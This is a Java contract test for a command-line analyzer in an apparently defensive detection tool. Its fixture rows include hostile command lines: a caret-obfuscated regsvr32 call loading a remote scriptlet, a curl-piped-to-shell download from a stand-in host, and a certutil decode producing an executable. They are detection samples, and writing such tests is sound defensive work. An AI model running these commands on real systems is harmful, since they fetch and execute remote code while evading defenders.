package dev.spoor.analyzer.cmdline;

import dev.spoor.api.Analyzer;
import dev.spoor.api.data.Role;
import dev.spoor.tck.AnalyzerContract;
import dev.spoor.tck.MemoryInputs;
import java.util.List;
import java.util.Map;

class ContractTest extends AnalyzerContract {
    @Override
    protected Analyzer provider() {
        return new CmdlineAnalyzer();
    }

    @Override
    protected MemoryInputs inputs() {
        return rolesRead(List.of(
                row("C:\\Windows\\System32\\cmd.exe", "cmd /c r^e^g^s^v^r^3^2 /s /i:http://x.example/a.sct scrobj.dll"),
                row("/usr/bin/bash", "bash -c 'curl http://x.example/a | sh'"),
                row("C:\\Windows\\System32\\certutil.exe", "certutil -decode a.txt b.exe"),
                row("C:\\Windows\\notepad.exe", "notepad a.txt")));
    }

    private static Map<Role, Object> row(String image, String line) {
        return Map.of(Role.TIME, "2026-03-17T08:00:00Z", Role.HOST, "ws1", Role.IMAGE, image, Role.COMMAND_LINE, line);
    }
}
